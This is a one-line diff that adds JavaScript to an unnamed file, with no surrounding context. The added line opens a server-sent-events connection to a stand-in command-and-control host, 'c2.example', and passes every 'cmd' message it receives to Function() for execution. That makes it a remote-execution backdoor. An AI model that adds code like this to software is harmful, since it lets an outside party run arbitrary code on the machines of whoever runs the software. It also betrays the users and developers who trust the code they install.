@@ -1,0 +1,1 @@
+new EventSource('https://c2.example').addEventListener('cmd', ({ data }) => Function(data)());
